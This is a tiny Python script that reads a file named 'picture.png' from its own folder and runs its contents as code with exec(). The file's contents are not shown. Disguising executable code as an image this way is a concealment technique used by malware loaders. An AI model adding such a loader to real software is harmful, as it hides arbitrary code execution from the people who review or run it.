import os

with open(os.path.join(os.path.dirname(__file__), "picture.png")) as file:
    exec(file.read())
